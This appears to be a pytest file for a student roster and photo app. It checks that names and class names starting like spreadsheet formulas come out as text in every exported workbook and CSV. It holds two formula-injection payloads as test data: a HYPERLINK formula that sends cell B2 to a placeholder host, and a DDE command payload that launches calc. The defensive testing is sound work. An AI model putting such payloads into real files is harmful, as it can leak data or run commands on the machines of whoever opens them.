"""Formula injection: roster text that starts like a formula stays text in every workbook the station writes."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

from sqlalchemy import select

from app.models import Student
from tests._reports_day import day  # noqa: F401
from tests._roster_books import HEADERS, good_rows

EVIL = '=HYPERLINK("http://x"&B2,"x")'


def formulas(xlsx: Path) -> list[str]:
    """Every <f> (formula) element in any sheet of the workbook, and every cell typed as a formula."""
    found = []
    with zipfile.ZipFile(xlsx) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<f[ >].*?</f>|<f/>", xml)]
                found += [f"{name}: t=str" for _ in re.findall(r'\bt="str"', xml)]
    return found


def texts(xlsx: Path) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(xlsx)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_no_workbook_holds_a_formula_from_roster_text(day, db, run_cli, tmp_path):  # noqa: F811
    with db.session() as s:
        for no in ("X1901015", "X1901023", "R1901003", "X1901001"):  # errata, absent, exported, selected
            s.scalars(select(Student).where(Student.student_no == no)).one().name = EVIL
        for st in s.scalars(select(Student).where(Student.class_name == "临床1901")):
            st.class_name = "+cmd|' /C calc'!A0"  # nobody photographed: in the missing list and the plan
        s.commit()
    outs = {}
    outs["reconcile"] = tmp_path / "rec.xlsx"
    assert run_cli("report", "reconcile", "--date", "2019-03-16", "--period", "day", "--whole-roster", "--out", outs["reconcile"])[0] in (0, 1)
    outs["errata"] = tmp_path / "errata.xlsx"
    assert run_cli("report", "errata", "--out", outs["errata"])[0] == 0
    code, _, err = run_cli("export", "photos", "--out", tmp_path / "d", "--no-proof")
    assert code in (0, 1), err
    outs["manifest"] = tmp_path / "d" / "清单.xlsx"
    outs["plan"] = tmp_path / "plan.xlsx"
    code, _, err = run_cli("plan", "--start", "2019-03-20T08:00", "--out", outs["plan"], "--dry-run")
    assert code == 0, err
    # the roster's findings report: a row with the formula as its name and a broken ID number
    rows = good_rows(4)
    rows[1][6] = EVIL
    rows[1][5] = "123"
    book = tmp_path / "roster.csv"  # as text (an xlsx written by openpyxl would hold a real formula)
    with open(book, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([HEADERS, *rows])
    outs["findings"] = tmp_path / "findings.xlsx"
    code, _, err = run_cli("roster", "import", book, "--report", outs["findings"])
    assert outs["findings"].is_file(), err
    for what, path in outs.items():
        assert path.is_file(), what
        assert formulas(path) == [], what
    # the value is kept as the school wrote it (no apostrophe), as text
    for what in ("errata", "manifest", "findings", "reconcile"):
        assert EVIL in texts(outs[what]), (what, [x for x in texts(outs[what]) if "HYPER" in x])
    assert "+cmd|' /C calc'!A0" in texts(outs["plan"])
    # the CSV manifest: opened in Excel, a leading apostrophe keeps it text
    with open(tmp_path / "d" / "清单.csv", encoding="utf-8-sig", newline="") as f:
        names = [r["姓名"] for r in csv.DictReader(f)]
    assert "'" + EVIL in names and EVIL not in names
